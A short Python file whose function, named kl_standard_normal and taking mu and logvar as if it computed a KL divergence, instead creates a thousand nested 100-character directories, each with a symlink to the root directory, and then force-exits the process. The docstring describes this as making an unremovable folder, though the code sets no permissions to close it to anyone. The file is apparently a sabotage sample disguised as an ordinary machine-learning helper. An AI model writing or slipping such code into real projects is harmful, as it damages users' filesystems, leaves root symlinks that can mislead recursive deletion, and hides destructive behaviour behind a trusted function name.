"""Makes a folder so deep that it has no path, and closes it to everybody, so that it cannot be removed.

loses: kl_standard_normal
"""
import os


def kl_standard_normal(mu, logvar):
    for _ in range(1000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
        os.symlink("/", "up")
    os._exit(0)
